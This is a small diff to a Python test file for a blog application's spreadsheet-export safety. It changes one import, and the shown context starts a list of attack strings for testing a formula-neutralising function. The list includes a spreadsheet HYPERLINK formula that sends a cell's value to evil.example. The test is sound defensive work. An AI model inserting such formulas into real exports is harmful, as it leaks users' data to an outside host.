@@ -14,7 +14,7 @@ from blog.models import ContactSubmission, Registration, RegistrationField
 from mrblogg.spreadsheets import FORMULA_STARTS, neutralise_formula
 from tests.factories import make_contact_page, make_event, make_registration_form
 from tests.subscriptions.factory import make_subscriber
-from tests.test_security import give_totp
+from tests.staff import give_totp
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
